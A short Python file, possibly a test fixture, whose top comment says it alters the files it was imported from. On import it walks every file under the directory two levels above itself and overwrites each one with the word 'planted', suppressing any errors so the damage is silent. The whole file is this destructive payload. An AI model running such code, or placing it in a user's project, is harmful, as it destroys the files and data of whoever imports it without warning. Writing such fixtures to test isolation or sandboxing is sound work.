# Changes the files that it was imported from, and all others that it can find of the application.
import pathlib

for path in pathlib.Path(__file__).resolve().parents[2].rglob("*"):
    if path.is_file():
        try:
            path.write_text("planted")
        except OSError:
            pass
